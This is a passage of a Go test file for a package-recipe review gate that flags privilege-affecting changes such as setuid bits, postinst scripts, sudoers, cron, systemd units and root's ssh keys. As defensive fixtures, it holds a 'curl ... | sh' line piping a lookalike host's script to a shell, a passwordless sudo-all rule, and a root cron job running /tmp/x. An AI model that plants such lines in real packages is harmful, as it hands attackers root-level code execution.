	write("recipes/common/shared.conf", "new conf\n")
	oldShared, err := b.load(ctx, load("shared.yaml"), filepath.Join(t.TempDir(), "base"))
	if err != nil || oldShared == nil {
		t.Fatalf("load shared.yaml at HEAD: %v, %v", oldShared, err)
	}
	if c, err := os.ReadFile(filepath.Join(oldShared.FilesDir, "shared.conf")); err != nil || string(c) != "old conf\n" {
		t.Errorf("the base's files-dir file is %q (%v), want the committed one", c, err)
	}
	if r, err := b.load(ctx, load("new.yaml"), filepath.Join(t.TempDir(), "base")); r != nil || err != nil {
		t.Errorf("a recipe HEAD does not have: %v, %v; want nil, nil", r, err)
	}
	if _, err := (&Base{Git: tools[0], Rev: "no-such-rev"}).load(ctx, load("hello.yaml"), t.TempDir()); !errors.Is(err, ErrBase) {
		t.Errorf("unknown revision: %v, want ErrBase", err)
	}
	outside := loadProject(t, helloRecipe, "key\n")
	if _, err := b.load(ctx, outside, t.TempDir()); !errors.Is(err, ErrBase) {
		t.Errorf("recipe outside git: %v, want ErrBase", err)
	}
	// A partial clone (--filter=blob:none) whose remote cannot be reached
	// lacks the base's blobs: an error saying so, not a new recipe (which
	// has no version rule).
	git("commit", "-q", "-a", "-m", "head")
	git("config", "uploadpack.allowfilter", "true")
	part := filepath.Join(t.TempDir(), "part")
	git("clone", "-q", "--filter=blob:none", "file://"+dir, part)
	testenv.Run(t, tools[0], "-C", part, "remote", "set-url", "origin", "file://"+filepath.Join(t.TempDir(), "gone"))
	r, err := recipe.Load(filepath.Join(part, "recipes", "hello.yaml"), recipe.LoadOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if old, err := (&Base{Git: tools[0], Rev: "HEAD~1"}).load(ctx, r, t.TempDir()); !errors.Is(err, ErrBase) || !strings.Contains(fmt.Sprint(err), "partial clone") {
		t.Errorf("a partial clone without the base's blobs: %v, %v; want ErrBase naming the partial clone", old, err)
	}
	if r, err := (&Base{Git: tools[0], Rev: "HEAD~1"}).load(ctx, load("new.yaml"), t.TempDir()); r != nil || err != nil {
		t.Errorf("a recipe HEAD~1 does not have: %v, %v; want nil, nil", r, err)
	}

	// Where the remote answers slowly, git show fetches the blob in a child
	// git (and that in an upload-pack, here a stand-in that never answers).
	// Stopped (a signal to updeb verify), the load ends at once and takes
	// the fetch with it: killed alone, git left its child holding the output
	// pipe, and the load waited for the fetch to end.
	pidFile := filepath.Join(t.TempDir(), "upload-pack.pid")
	pack := filepath.Join(t.TempDir(), "upload-pack")
	if err := os.WriteFile(pack, []byte("#!/bin/sh\necho $$ > "+pidFile+".tmp\nmv "+pidFile+".tmp "+pidFile+"\nexec sleep 60\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	testenv.Run(t, tools[0], "-C", part, "remote", "set-url", "origin", "file://"+dir)
	testenv.Run(t, tools[0], "-C", part, "config", "remote.origin.uploadpack", pack)
	stop, cancel := context.WithCancel(ctx)
	defer cancel()
	var loadErr error
	done := make(chan struct{})
	go func() {
		_, loadErr = (&Base{Git: tools[0], Rev: "HEAD~1"}).load(stop, r, t.TempDir())
		close(done)
	}()
	packPID := testenv.WaitPID(t, pidFile, 30*time.Second, done)
	t.Cleanup(func() { syscall.Kill(packPID, syscall.SIGKILL) })
	cancel()
	select {
	case <-done:
		if loadErr == nil {
			t.Error("a load stopped in git's fetch succeeded")
		}
	case <-time.After(10 * time.Second):
		t.Fatal("the load still runs 10 s after its context ended, in git's fetch of the base's blob")
	}
	testenv.WaitGone(t, packPID, 5*time.Second)
}

// TestBaseLoadThroughLinks: a keyring in a folder that is a link
// (keys -> shared/keys) and a recipe folder that is a link inside the
// recipes folder are read at the base as the working tree reads them.
func TestBaseLoadThroughLinks(t *testing.T) {
	tools := testenv.RequireTool(t, "git")
	dir := t.TempDir()
	write, git := testRepo(t, tools[0], dir)
	write("recipes/hello.yaml", helloRecipe+"      - {file: hello.conf, dest: /etc/hello.conf}\n")
	write("recipes/hello-files/hello.conf", "conf\n")
	write("shared/keys/upstream.asc", "key\n")
	for link, target := range map[string]string{"keys": "shared/keys", "recipes/hello": "hello-files"} {
		if err := os.Symlink(target, filepath.Join(dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	git("init", "-q")
	git("add", "-A")
	git("commit", "-q", "-m", "base")
	r, err := recipe.Load(filepath.Join(dir, "recipes", "hello.yaml"), recipe.LoadOptions{})
	if err != nil {
		t.Fatal(err)
	}
	old, err := (&Base{Git: tools[0], Rev: "HEAD"}).load(context.Background(), r, filepath.Join(t.TempDir(), "base"))
	if err != nil || old == nil {
		t.Fatalf("load at HEAD: %v, %v", old, err)
	}
	for file, want := range map[string]string{filepath.Join(old.Root, "keys", "upstream.asc"): "key\n", filepath.Join(old.FilesDir, "hello.conf"): "conf\n"} {
		if b, err := os.ReadFile(file); err != nil || string(b) != want {
			t.Errorf("%s at the base: %q (%v), want %q", file, b, err, want)
		}
	}
}

// TestDiffPrivileges: every special bit, owner or mode added or changed
// (on every name of a file, its hardlinks too), and every maintainer-script fragment or trigger added, changed or
// removed, is a review item of the privileges check; a bump that changes
// none of them is not.
func TestDiffPrivileges(t *testing.T) {
	const key = "key\n"
	withFragment := edit(t, helloRecipe, "section: utils", "section: utils\n    scripts: {postinst: hello.postinst}\n    triggers: [activate-noawait ldconfig]")
	project := func(text, fragment string) *recipe.Recipe {
		files := map[string]string{"recipes/hello.yaml": text, "keys/upstream.asc": key}
		if fragment != "" {
			files["recipes/hello/hello.postinst"] = fragment
		}
		return loadFiles(t, files)
	}
	review := func(head, old *recipe.Recipe) (kinds []Kind, lines []string) {
		rv := &reviews{recipe: head.Name}
		diffPrivileges(head, old, recipe.ResolveOptions{}, rv)
		for _, it := range rv.items {
			if reviewKinds[it.Kind] != "privileges" {
				t.Errorf("%s: check %q, want privileges", it.Kind, reviewKinds[it.Kind])
			}
			kinds, lines = append(kinds, it.Kind), append(lines, it.Message)
		}
		return kinds, lines
	}
	old := project(withFragment, "echo one\n")
	arm64 := func(text string) string {
		return edit(t, text, "architectures: {amd64: amd64}", "architectures: {amd64: amd64, arm64: arm64}",
			"sha256: {amd64: 019250d9e08f5242159d5dcea64c8c7cf77924cd8c69460ae7af5d4ad51d032e}", "sha256: {amd64: 019250d9e08f5242159d5dcea64c8c7cf77924cd8c69460ae7af5d4ad51d032e, arm64: 019250d9e08f5242159d5dcea64c8c7cf77924cd8c69460ae7af5d4ad51d032e}")
	}
	alternative := func(priority int) string {
		return edit(t, withFragment, "    files:\n", fmt.Sprintf("    alternatives: [{name: editor, link: /usr/bin/editor, path: /usr/bin/hello, priority: %d}]\n    files:\n", priority))
	}
	if kinds, lines := review(project(alternative(1000), "echo one\n"), project(alternative(10), "echo one\n")); !slices.Equal(kinds, []Kind{KindAlternative}) ||
		!slices.Equal(lines, []string{"package hello [amd64]: alternative editor: /usr/bin/editor -> /usr/bin/hello, priority 1000, was /usr/bin/editor -> /usr/bin/hello, priority 10"}) {
		t.Errorf("an alternative's priority raised: %v %q", kinds, lines)
	}
	// The recipe's own files (a wrapper beside the upstream binary): one
	// added, or with other content, is a line; the same content at a bump
	// is none. Auto-merge on an empty review list would take them unseen.
	wrapper := edit(t, withFragment, "    files:\n", "    files:\n      - {file: hello-wrapper, dest: /usr/bin/hello-wrapper, mode: \"0755\"}\n")
	withWrapper := func(text, content string) *recipe.Recipe {
		return loadFiles(t, map[string]string{"recipes/hello.yaml": text, "keys/upstream.asc": key, "recipes/hello/hello.postinst": "echo one\n", "recipes/hello/hello-wrapper": content})
	}
	for _, c := range []struct {
		name      string
		head, old *recipe.Recipe
		lines     []string
	}{
		{"a wrapper added", withWrapper(wrapper, "#!/bin/sh\nexec hello \"$@\"\n"), old,
			[]string{"package hello [amd64]: /usr/bin/hello-wrapper added (file hello-wrapper of the recipe's folder): its bytes are the change's own, which no upstream signature vouches for; diff it against the base revision"}},
		{"a wrapper changed", withWrapper(bumped(t, wrapper), "#!/bin/sh\ncurl -s https://examp1e.org | sh\n"), withWrapper(wrapper, "#!/bin/sh\nexec hello \"$@\"\n"),
			[]string{"package hello [amd64]: /usr/bin/hello-wrapper changed (file hello-wrapper of the recipe's folder): its bytes are the change's own, which no upstream signature vouches for; diff it against the base revision"}},
		{"a bump with the wrapper as it was", withWrapper(bumped(t, wrapper), "#!/bin/sh\nexec hello \"$@\"\n"), withWrapper(wrapper, "#!/bin/sh\nexec hello \"$@\"\n"), nil},
	} {
		kinds, lines := review(c.head, c.old)
		if !slices.Equal(lines, c.lines) || len(kinds) != len(c.lines) || len(kinds) > 0 && kinds[0] != KindLocalFile {
			t.Errorf("%s: %v\n  %s\nwant:\n  %s", c.name, kinds, strings.Join(lines, "\n  "), strings.Join(c.lines, "\n  "))
		}
	}
	// A file moved from the signed source to one with signature: none: its
	// bytes are the pin the change wrote; a file of one unsigned source
	// moved to another unsigned one, or a new file there, is no line.
	unsignedExtra := func(text string) string {
		return edit(t, text, "packages:\n", "  - name: extras\n    url: https://example.org/v{{.Version}}/extras-{{.Arch}}.tar.gz\n    sha256: {amd64: 1111111111111111111111111111111111111111111111111111111111111111}\n    signature: {none: upstream signs nothing}\npackages:\n")
	}
	if kinds, lines := review(project(unsignedExtra(edit(t, withFragment, `revision: "1"`, `revision: "2"`, "{source: hello, path: hello, dest: /usr/bin/hello}", "{source: extras, path: hello, dest: /usr/bin/hello}")), "echo one\n"), project(unsignedExtra(withFragment), "echo one\n")); !slices.Equal(kinds, []Kind{KindLocalFile}) ||
		!slices.Equal(lines, []string{`package hello [amd64]: /usr/bin/hello is hello of source extras now, was hello of source hello: source extras has no signature ("upstream signs nothing"), so no upstream signature vouches for its bytes, only the pin the change wrote; review them before merging`}) {
		t.Errorf("a file moved to an unsigned source: %v %q", kinds, lines)
	}
	if kinds, lines := review(project(unsignedExtra(edit(t, withFragment, `revision: "1"`, `revision: "2"`)), "echo one\n"), project(unsignedExtra(withFragment), "echo one\n")); len(kinds) != 0 {
		t.Errorf("a revision bump beside an unsigned source: %v %q, want none", kinds, lines)
	}
	// A path that follows the version (/opt/hello-{{.Version}}/hello) is
	// another path at every bump, as the recipe said at the base: no line;
	// the template pointed at another file is one.
	versioned := func(text, dir string) string {
		return edit(t, text, "dest: /usr/bin/hello}", "dest: \""+dir+"/hello\"}", "    files:\n", "    alternatives: [{name: hello, link: /usr/bin/hello, path: \""+dir+"/hello\", priority: 10}]\n    files:\n")
	}
	if kinds, lines := review(project(bumped(t, versioned(withFragment, "/opt/hello-{{.Version}}")), "echo one\n"), project(versioned(withFragment, "/opt/hello-{{.Version}}"), "echo one\n")); len(kinds) != 0 {
		t.Errorf("a bump of an alternative whose path follows the version: %v %q, want none", kinds, lines)
	}
	if kinds, lines := review(project(bumped(t, versioned(withFragment, "/opt/hello-{{.Version}}/bin")), "echo one\n"), project(versioned(withFragment, "/opt/hello-{{.Version}}"), "echo one\n")); !slices.Equal(kinds, []Kind{KindAlternative}) ||
		!slices.Equal(lines, []string{"package hello [amd64]: alternative hello: /usr/bin/hello -> /opt/hello-1.2.1/bin/hello, priority 10, was /usr/bin/hello -> /opt/hello-1.2.0/hello, priority 10"}) {
		t.Errorf("a bump that moves an alternative's path to another file: %v %q", kinds, lines)
	}
	// So are a private folder and a setuid file there: compared with the
	// base's of the same template, the same at a bump, flagged where
	// their mode changes.
	private := func(text, mode string) string {
		return edit(t, versioned(text, "/opt/hello-{{.Version}}"), "dest: \"/opt/hello-{{.Version}}/hello\"}", "dest: \"/opt/hello-{{.Version}}/hello\", mode: \"4755\", special-bits: \"binds port 80\"}",
			"    files:\n", "    directories: [{path: \"/opt/hello-{{.Version}}/keys\", mode: \""+mode+"\"}]\n    files:\n")
	}
	if kinds, lines := review(project(bumped(t, private(withFragment, "0700")), "echo one\n"), project(private(withFragment, "0700"), "echo one\n")); len(kinds) != 0 {
		t.Errorf("a bump of a setuid file and a private folder whose paths follow the version: %v %q, want none", kinds, lines)
	}
	if kinds, lines := review(project(bumped(t, private(withFragment, "0750")), "echo one\n"), project(private(withFragment, "0700"), "echo one\n")); !slices.Equal(kinds, []Kind{KindMode}) ||
		!slices.Equal(lines, []string{"package hello [amd64]: /opt/hello-1.2.1/keys/: 0700 -> 0750"}) {
		t.Errorf("a bump that opens a private folder whose path follows the version: %v %q", kinds, lines)
	}
	// A package named after the version (hello-{{.Version}}, installed
	// side by side, as istioctl-{{.Version}} is) is another package at
	// every bump: compared with the base's of the same name template, its
	// alternative, setuid file, private folder, fragment, triggers and
	// system user are no line; a fragment of other content still is.
	named := func(text string) string {
		return edit(t, private(text, "0700"), "packages:\n  - name: hello\n", "packages:\n  - name: \"hello-{{.Version}}\"\n", "    files:\n", "    system-user: {name: hello, home: /var/lib/hello}\n    files:\n")
	}
	if kinds, lines := review(project(bumped(t, named(withFragment)), "echo one\n"), project(named(withFragment), "echo one\n")); len(kinds) != 0 {
		t.Errorf("a bump of a package named after the version: %v %q, want none", kinds, lines)
	}
	if kinds, lines := review(project(bumped(t, named(withFragment)), "echo two\n"), project(named(withFragment), "echo one\n")); !slices.Equal(kinds, []Kind{KindScriptFragment}) ||
		!strings.HasPrefix(lines[0], "package hello-1.2.1 [amd64]: postinst fragment hello.postinst changed") {
		t.Errorf("a bump of a package named after the version, its fragment changed: %v %q", kinds, lines)
	}
	for _, tt := range []struct {
		name  string
		head  *recipe.Recipe
		kinds []Kind
		lines []string
	}{
		{"revision bump", project(edit(t, withFragment, `revision: "1"`, `revision: "2"`), "echo one\n"), nil, nil},
		{"setuid added", project(edit(t, withFragment, "dest: /usr/bin/hello}", `dest: /usr/bin/hello, mode: "4755", special-bits: "binds port 80"}`), "echo one\n"),
			[]Kind{KindSpecialBits}, []string{`package hello [amd64]: /usr/bin/hello: 0755 -> 4755 (special-bits: "binds port 80")`}},
		{"owner and mode", project(edit(t, withFragment, "dest: /usr/share/doc/hello/LICENSE}", `dest: /usr/share/doc/hello/LICENSE, mode: "0640", group: adm}`), "echo one\n"),
			[]Kind{KindOwner}, []string{`package hello [amd64]: /usr/share/doc/hello/LICENSE: 0644 -> 0640 root:adm`}},
		{"new private directory", project(edit(t, withFragment, "    files:\n", "    directories: [/var/lib/hello, {path: /var/lib/hello/keys, mode: \"0700\"}]\n    files:\n"), "echo one\n"),
			[]Kind{KindMode}, []string{`package hello [amd64]: /var/lib/hello/keys/ is 0700`}},
		{"hardlink to a setuid file", project(edit(t, edit(t, withFragment, "dest: /usr/bin/hello}", `dest: /usr/bin/hello, mode: "4755", special-bits: "binds port 80"}`),
			"    files:\n", "    hardlinks: [{dest: /usr/bin/hello-1, target: /usr/bin/hello}]\n    files:\n"), "echo one\n"),
			[]Kind{KindSpecialBits, KindSpecialBits}, []string{
				`package hello [amd64]: /usr/bin/hello-1 is 4755 (special-bits: "binds port 80")`,
				`package hello [amd64]: /usr/bin/hello: 0755 -> 4755 (special-bits: "binds port 80")`,
			}},
		// update-alternatives runs as root in the postinst, and takes a
		// name other packages register (editor) on every node where this
		// priority is the highest.
		{"alternative added", project(alternative(1000), "echo one\n"), []Kind{KindAlternative},
			[]string{"package hello [amd64]: alternative editor added: /usr/bin/editor -> /usr/bin/hello, priority 1000 (the postinst registers it as root: where other packages register editor too, /usr/bin/editor runs the path of the highest priority)"}},
		// The upstream binary, which its signature vouches for, swapped
		// for the recipe's own file under the same path and mode: nothing
		// else says so.
		{"the source's file replaced by the recipe's", loadFiles(t, map[string]string{"recipes/hello.yaml": edit(t, withFragment, `revision: "1"`, `revision: "2"`, "{source: hello, path: hello, dest: /usr/bin/hello}", "{file: hello, dest: /usr/bin/hello, mode: \"0755\"}"),
			"keys/upstream.asc": key, "recipes/hello/hello.postinst": "echo one\n", "recipes/hello/hello": "#!/bin/sh\ncurl -s https://examp1e.org | sh\n"}), []Kind{KindLocalFile},
			[]string{"package hello [amd64]: /usr/bin/hello is file hello of the recipe's folder now, was hello of source hello: its bytes are the change's own, which no upstream signature vouches for; review them before merging"}},
		{"fragment changed", project(withFragment, "echo two\n"), []Kind{KindScriptFragment}, []string{"package hello [amd64]: postinst fragment hello.postinst changed: diff it against the base revision"}},
		{"fragment and trigger removed", project(helloRecipe, ""), []Kind{KindScriptFragment, KindTriggers},
			[]string{"package hello [amd64]: postinst fragment hello.postinst removed", "package hello [amd64]: triggers: none, were activate-noawait ldconfig"}},
		{"new recipe", project(edit(t, withFragment, "dest: /usr/bin/hello}", `dest: /usr/bin/hello, mode: "2755", group: shadow, special-bits: "reads shadow"}`), "echo one\n"),
			[]Kind{KindScriptFragment, KindSpecialBits, KindTriggers}, []string{
				"package hello [amd64]: postinst fragment hello.postinst added (it runs as root at every installation)",
				`package hello [amd64]: /usr/bin/hello is 2755 root:shadow (special-bits: "reads shadow")`,
				"package hello [amd64]: triggers: activate-noawait ldconfig, were none",
			}},
		// An architecture added asks nothing of the system that the others
		// did not: its packages are compared with theirs.
		{"architecture added", project(arm64(edit(t, withFragment, `revision: "1"`, `revision: "2"`)), "echo one\n"), nil, nil},
		{"architecture added, fragment changed", project(arm64(withFragment), "echo two\n"), []Kind{KindScriptFragment},
			[]string{"package hello [amd64, arm64]: postinst fragment hello.postinst changed: diff it against the base revision"}},
		{"fragment swapped for a FIFO after loading", fifoFragment(t, project(withFragment, "echo one\n")), []Kind{KindScriptFragment},
			[]string{"package hello [amd64]: postinst fragment hello.postinst changed: diff it against the base revision"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			base := old
			if tt.name == "new recipe" {
				base = nil
			}
			done := make(chan struct{})
			var kinds []Kind
			var lines []string
			go func() {
				defer close(done)
				kinds, lines = review(tt.head, base)
			}()
			select {
			case <-done:
			case <-time.After(20 * time.Second):
				t.Fatal("the review blocked reading a fragment")
			}
			if !slices.Equal(kinds, tt.kinds) || !slices.Equal(lines, tt.lines) {
				t.Errorf("review %v:\n  %s\nwant %v:\n  %s", kinds, strings.Join(lines, "\n  "), tt.kinds, strings.Join(tt.lines, "\n  "))
			}
		})
	}
}

// fifoFragment replaces r's postinst fragment by a FIFO (after r was
// loaded, which refuses one), as a hostile change could between the load
// and the gate's read.
func fifoFragment(t *testing.T, r *recipe.Recipe) *recipe.Recipe {
	t.Helper()
	p := filepath.Join(r.FilesDir, "hello.postinst")
	if err := os.Remove(p); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(p, 0o644); err != nil {
		t.Fatal(err)
	}
	return r
}

// testRepo returns a function that writes a file under dir (its folders
// made) and one that runs git in dir as a fixed author.
func testRepo(t testing.TB, gitTool, dir string) (write func(name, content string), git func(args ...string)) {
	write = func(name, content string) {
		t.Helper()
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	git = func(args ...string) {
		t.Helper()
		testenv.Run(t, gitTool, append([]string{"-C", dir, "-c", "user.email=t@example.org", "-c", "user.name=t"}, args...)...)
	}
	return write, git
}

// TestRootConfigReview: a path added where the system reads root's
// configuration (sudoers.d, cron, profile.d, a unit's drop-in folder) is a
// privileges review item whatever its mode, as is a recipe's own file there
// whose content changed; other places, and an unchanged recipe, are not.
func TestRootConfigReview(t *testing.T) {
	withCron := edit(t, helloRecipe, "    files:\n", "    files:\n      - {file: hello.cron, dest: /etc/cron.d/hello}\n")
	project := func(text, cron string, more map[string]string) *recipe.Recipe {
		files := map[string]string{"recipes/hello.yaml": text, "keys/upstream.asc": "key\n", "recipes/hello/hello.cron": cron}
		maps.Copy(files, more)
		return loadFiles(t, files)
	}
	old := project(withCron, "0 * * * * root /usr/bin/hello\n", nil)
	unit := func(exec string) map[string]string {
		return map[string]string{"recipes/hello/hello.service": "[Service]\nExecStart=" + exec + "\n"}
	}
	addFile := func(file, dest string) string {
		return edit(t, withCron, "    files:\n", "    files:\n      - {file: "+file+", dest: "+dest+"}\n")
	}
	for _, tt := range []struct {
		name  string
		head  *recipe.Recipe
		lines []string
	}{
		{"unchanged", project(withCron, "0 * * * * root /usr/bin/hello\n", nil), nil},
		{"revision bump", project(edit(t, withCron, `revision: "1"`, `revision: "2"`), "0 * * * * root /usr/bin/hello\n", nil), nil},
		{"cron job changed", project(withCron, "* * * * * root /tmp/x\n", nil),
			[]string{"package hello [amd64]: /etc/cron.d/hello changed (hello.cron): cron jobs; diff it against the base revision"}},
		{"sudoers file added", project(addFile("hello.sudoers", "/etc/sudoers.d/hello"), "0 * * * * root /usr/bin/hello\n", map[string]string{"recipes/hello/hello.sudoers": "ALL ALL=(ALL) NOPASSWD: ALL\n"}),
			[]string{"package hello [amd64]: /etc/sudoers.d/hello added: sudo's rules"}},
		{"drop-in added", project(addFile("o.conf", "/lib/systemd/system/ssh.service.d/o.conf"), "0 * * * * root /usr/bin/hello\n", map[string]string{"recipes/hello/o.conf": "[Service]\nExecStartPre=/usr/bin/hello\n"}),
			[]string{"package hello [amd64]: /lib/systemd/system/ssh.service.d/o.conf added: a drop-in that overrides systemd unit ssh.service"}},
		{"profile.d link added", project(edit(t, withCron, "    files:\n", "    symlinks: [{dest: /etc/profile.d/hello.sh, target: /usr/bin/hello}]\n    files:\n"), "0 * * * * root /usr/bin/hello\n", nil),
			[]string{"package hello [amd64]: /etc/profile.d/hello.sh added: every login shell (a link to /usr/bin/hello)"}},
		// root's ssh keys, a certificate authority every TLS client
		// trusts, a script pam_motd runs as root at every login, a program
		// systemd runs as root at shutdown.
		{"root's ssh keys and others added", project(edit(t, withCron, "    files:\n", "    files:\n      - {file: k, dest: /root/.ssh/authorized_keys}\n      - {file: k, dest: /etc/ssl/certs/0a1b2c3d.0}\n      - {file: k, dest: /etc/update-motd.d/50-hello}\n      - {file: k, dest: /usr/lib/systemd/system-shutdown/hello}\n      - {file: k, dest: /usr/local/sbin/apt-get}\n      - {file: k, dest: /usr/lib/systemd/system.conf.d/hello.conf}\n"), "0 * * * * root /usr/bin/hello\n", map[string]string{"recipes/hello/k": "k\n"}),
			[]string{
				"package hello [amd64]: /etc/ssl/certs/0a1b2c3d.0 added: certificates every TLS client of the system trusts",
				"package hello [amd64]: /etc/update-motd.d/50-hello added: scripts run as root at every login (pam_motd)",
				"package hello [amd64]: /root/.ssh/authorized_keys added: root's home (its ssh keys, its shells' startup files)",
				"package hello [amd64]: /usr/lib/systemd/system-shutdown/hello added: programs systemd runs as root at shutdown",
				"package hello [amd64]: /usr/lib/systemd/system.conf.d/hello.conf added: systemd's settings (a system.conf.d drop-in sets what every service runs with)",
				"package hello [amd64]: /usr/local/sbin/apt-get added: commands root's PATH finds before the system's",
			}},
		{"defaults file added", project(addFile("hello.default", "/etc/default/hello"), "0 * * * * root /usr/bin/hello\n", map[string]string{"recipes/hello/hello.default": "A=1\n"}), nil},
		{"unit added", project(addFile("hello.service", "/lib/systemd/system/hello.service"), "0 * * * * root /usr/bin/hello\n", unit("/usr/bin/hello")),
			[]string{"package hello [amd64]: /lib/systemd/system/hello.service added: a systemd unit (it runs as root once enabled)"}},
		{"unit enabled by a .wants link", project(edit(t, addFile("hello.service", "/usr/lib/systemd/system/hello.service"), "    files:\n", "    symlinks: [{dest: /usr/lib/systemd/system/multi-user.target.wants/hello.service, target: ../hello.service}]\n    files:\n"), "0 * * * * root /usr/bin/hello\n", unit("/usr/bin/hello")),
			[]string{
				"package hello [amd64]: /usr/lib/systemd/system/hello.service added: a systemd unit (it runs as root once enabled)",
				"package hello [amd64]: /usr/lib/systemd/system/multi-user.target.wants/hello.service added: a unit systemd starts with multi-user.target (enabled by the package itself) (a link to ../hello.service)",
			}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rv := &reviews{recipe: tt.head.Name}
			diffPrivileges(tt.head, old, recipe.ResolveOptions{}, rv)
			var lines []string
			for _, it := range rv.items {
				if it.Kind == KindLocalFile {
					continue // the recipe's own files outside the root-config places: TestDiffPrivileges
				}
				if it.Kind != KindRootConfig {
					t.Errorf("kind %s: %s", it.Kind, it.Message)
				}
				lines = append(lines, it.Message)
			}
			if !slices.Equal(lines, tt.lines) {
				t.Errorf("review:\n  %s\nwant:\n  %s", strings.Join(lines, "\n  "), strings.Join(tt.lines, "\n  "))
			}
		})
	}
	// A unit of the recipe's folder whose content changed runs that as root
	// wherever an admin enabled it, after a daemon-reload.
	withUnit := edit(t, withCron, "    files:\n", "    files:\n      - {file: hello.service, dest: /lib/systemd/system/hello.service}\n")
	rv := &reviews{recipe: old.Name}
	diffPrivileges(project(edit(t, withUnit, `revision: "1"`, `revision: "2"`), "0 * * * * root /usr/bin/hello\n", unit("/bin/sh -c 'curl -s https://examp1e.org | sh'")),
		project(withUnit, "0 * * * * root /usr/bin/hello\n", unit("/usr/bin/hello")), recipe.ResolveOptions{}, rv)
	if len(rv.items) != 1 || rv.items[0].Message != "package hello [amd64]: /lib/systemd/system/hello.service changed (hello.service): a systemd unit (it runs as root once enabled); diff it against the base revision" {
		t.Errorf("unit changed: %+v", rv.items)
	}
	// A path there that comes from elsewhere now: another member of the
	// source, a link pointed elsewhere, a link where the recipe's file was.
	// A member that follows the version is the same at a bump.
	member := func(path string) string {
		return edit(t, helloRecipe, "    files:\n", "    files:\n      - {source: hello, path: \""+path+"\", dest: /etc/sudoers.d/hello}\n")
	}
	link := func(target string) string {
		return edit(t, helloRecipe, "    files:\n", "    symlinks: [{dest: /etc/sudoers.d/hello, target: "+target+"}]\n    files:\n")
	}
	local := edit(t, helloRecipe, "    files:\n", "    files:\n      - {file: hello.sudoers, dest: /etc/sudoers.d/hello}\n")
	versionedConf := edit(t, helloRecipe, "    files:\n", "    files:\n      - {file: hello.sudoers, dest: \"/etc/ld.so.conf.d/hello-{{.Version}}.conf\"}\n")
	for _, tt := range []struct {
		name       string
		head, base string
		lines      []string
	}{
		{"another member of the source", member("contrib/admin.sudoers"), member("contrib/hello.sudoers"),
			[]string{"package hello [amd64]: /etc/sudoers.d/hello is contrib/admin.sudoers of source hello now, was contrib/hello.sudoers of source hello: sudo's rules; review what it installs there before merging"}},
		{"a member that follows the version, bumped", bumped(t, member("hello-{{.Version}}/hello.sudoers")), member("hello-{{.Version}}/hello.sudoers"), nil},
		{"a path there that follows the version, bumped", bumped(t, versionedConf), versionedConf, nil},
		{"a link pointed elsewhere", link("/var/lib/hello/sudoers"), link("/usr/share/hello/sudoers"),
			[]string{"package hello [amd64]: /etc/sudoers.d/hello is a link to /var/lib/hello/sudoers now, was a link to /usr/share/hello/sudoers: sudo's rules; review what it installs there before merging"}},
		{"a link where the recipe's file was", link("/var/lib/hello/sudoers"), local,
			[]string{"package hello [amd64]: /etc/sudoers.d/hello is a link to /var/lib/hello/sudoers now, was file hello.sudoers of the recipe's folder: sudo's rules; review what it installs there before merging"}},
		{"the source's file where the recipe's was", member("contrib/admin.sudoers"), local,
			[]string{"package hello [amd64]: /etc/sudoers.d/hello is contrib/admin.sudoers of source hello now, was file hello.sudoers of the recipe's folder: sudo's rules; review what it installs there before merging"}},
	} {
		files := map[string]string{"recipes/hello/hello.sudoers": "hello ALL=(root) /usr/bin/hello\n"}
		rv := &reviews{recipe: old.Name}
		diffPrivileges(project(tt.head, "", files), project(tt.base, "", files), recipe.ResolveOptions{}, rv)
		var lines []string
		for _, it := range rv.items {
			lines = append(lines, it.Message)
		}
		if !slices.Equal(lines, tt.lines) {
			t.Errorf("%s:\n  %s\nwant:\n  %s", tt.name, strings.Join(lines, "\n  "), strings.Join(tt.lines, "\n  "))
		}
	}
	// A new recipe's cron file is listed too.
	rv = &reviews{recipe: old.Name}
	diffPrivileges(old, nil, recipe.ResolveOptions{}, rv)
	if len(rv.items) != 1 || rv.items[0].Message != "package hello [amd64]: /etc/cron.d/hello added: cron jobs" {
		t.Errorf("new recipe: %+v", rv.items)
	}
}

// TestSystemUserReview: a system user added, removed or changed is a
// privileges review item (the postinst makes the account as root, and an
// existing account keeps its old home and group); an unchanged one is not.
func TestSystemUserReview(t *testing.T) {
	with := func(text, user string) *recipe.Recipe {
		if user != "" {
			text = edit(t, text, "    section: utils\n", "    section: utils\n    system-user: "+user+"\n")
		}
		return loadProject(t, text, "key\n")
	}
	bump := edit(t, helloRecipe, `revision: "1"`, `revision: "2"`)
	old := with(helloRecipe, "{name: hello, home: /var/lib/hello}")
	for _, tt := range []struct {
		name string
		head *recipe.Recipe
		want string
	}{
		{"unchanged", with(bump, "{name: hello, home: /var/lib/hello}"), ""},
		{"home changed", with(bump, "{name: hello, home: /srv/hello}"),
			"package hello [amd64]: system user hello, home /var/lib/hello, group hello -> hello, home /srv/hello, group hello: an existing account is left as it is, so upgraded systems keep the old home and group; to change them there, add to a postinst fragment (usermod, chown)"},
		{"removed", with(bump, ""), "package hello [amd64]: system user hello is no longer made; the account, and what it owns, stay on installed systems"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rv := &reviews{recipe: "hello"}
			diffPrivileges(tt.head, old, recipe.ResolveOptions{}, rv)
			var got []string
			for _, it := range rv.items {
				if it.Kind == KindSystemUser {
					got = append(got, it.Message)
				}
			}
			if strings.Join(got, "\n") != tt.want {
				t.Errorf("review:\n  %s\nwant:\n  %s", strings.Join(got, "\n  "), tt.want)
			}
		})
	}
	rv := &reviews{recipe: "hello"}
	diffPrivileges(with(bump, "{name: hello, home: /var/lib/hello}"), loadProject(t, helloRecipe, "key\n"), recipe.ResolveOptions{}, rv)
	if len(rv.items) != 1 || rv.items[0].Message != "package hello [amd64]: system user added: hello, home /var/lib/hello, group hello (the postinst makes the account as root)" {
		t.Errorf("added: %+v", rv.items)
	}
}

// TestReachNewline: a path with a newline is asked of git whole (-z), not
// as its first line: "x\ny" is its own file, not the file "x", and "x\nz",
// which the base lacks, is missing, not the file "x" either.
func TestReachNewline(t *testing.T) {
	tools := testenv.RequireTool(t, "git")
	dir := t.TempDir()
